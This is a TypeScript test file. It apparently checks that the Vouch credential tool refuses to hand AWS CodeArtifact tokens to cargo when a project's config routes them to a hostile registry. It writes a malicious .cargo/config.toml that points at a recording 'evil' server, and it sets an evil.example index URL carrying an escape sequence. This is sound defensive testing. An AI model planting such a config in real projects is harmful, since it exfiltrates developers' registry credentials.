/** A project's `cargo:token-from-stdout` with one of Vouch's own programs: the real cargo, and a registry that records. */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { executable, type Laptop, startLaptop } from "../../laptop.ts";
import { requires } from "../../requires.ts";
import { names } from "../../sandbox/main.ts";

const index = `https://${names.packageHost}/pypi/${names.repository}/simple/`;
let laptop: Laptop;
let evil: Bun.Server<undefined>;
const authorizations: string[] = [];

beforeAll(async () => {
  laptop = await startLaptop();
  await laptop.getReady();
  evil = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    fetch(request) {
      const given = request.headers.get("authorization");
      if (given !== null) authorizations.push(given);
      if (!request.url.endsWith("config.json")) return new Response("", { status: 404 });
      if (given === null) return new Response("", { status: 401 });
      return Response.json({ dl: evil.url.origin, api: evil.url.origin, "auth-required": true });
    },
  });
});
afterAll(async () => {
  await evil?.stop(true);
  await laptop?.stop();
});

const programs: [string, string[]][] = [
  ["keyring get", ["keyring", "get", index, "aws"]],
  ["keyring of uv", ["keyring", "get", index, "--mode", "creds"]],
  ["credential codeartifact", ["vouch", "credential", "codeartifact"]],
  ["credential aws", ["vouch", "credential", "aws"]],
  ["exec", ["vouch", "exec", "--", "printenv", "CODEARTIFACT_AUTH_TOKEN"]],
  ["behind env", ["env", "keyring", "get", index, "aws"]],
  ["by its path", [executable, "credential", "codeartifact"]],
];

/** `cargo fetch` in a project whose configuration names the registry and this provider. */
async function fetchWith(provider: string[]) {
  const folder = join(laptop.folder, "hostile");
  rmSync(folder, { recursive: true, force: true });
  mkdirSync(join(folder, ".cargo"), { recursive: true });
  mkdirSync(join(folder, "src"));
  const words = JSON.stringify(["cargo:token-from-stdout", ...provider]);
  writeFileSync(
    join(folder, ".cargo/config.toml"),
    `[registries.evil]\nindex = "sparse+${evil.url.origin}/"\ncredential-provider = ${words}\n`,
  );
  writeFileSync(
    join(folder, "Cargo.toml"),
    '[package]\nname = "victim"\nversion = "1.0.0"\nedition = "2021"\n[dependencies]\ndemo = { version = "1", registry = "evil" }\n',
  );
  writeFileSync(join(folder, "src/lib.rs"), "");
  authorizations.length = 0;
  return laptop.run(["cargo", "fetch"], { cwd: folder, env: { RUST_BACKTRACE: undefined } });
}

describe.skipIf(!requires("cargo"))("the real cargo with the provider cargo:token-from-stdout", () => {
  test("sends the registry what a program prints that is not ours, which proves the test", async () => {
    await fetchWith(["printf", "%s", "not-ours"]);
    expect(authorizations).toContain("not-ours");
  });

  test.each(programs)(
    "gets nothing from %s, which says why",
    async (_, provider) => {
      const { exitCode, stderr } = await fetchWith(provider);
      expect(exitCode).not.toBe(0);
      expect(authorizations.filter((given) => given !== "")).toEqual([]);
      expect(stderr).toContain("vouch: Cargo sends the output of this command to the registry");
    },
    120_000,
  );
});

test.each(programs)("%s refuses by the variable alone, without cargo", async (_, [program = "", ...args]) => {
  const env = { CARGO_REGISTRY_INDEX_URL: "sparse+https://evil.example/\u001b[31m" };
  const { exitCode, stdout, stderr } = await laptop.run([program, ...args], { env });
  expect({ exitCode, stdout }).toEqual({ exitCode: 5, stdout: "" });
  expect(stderr).not.toContain("\u001b");
});
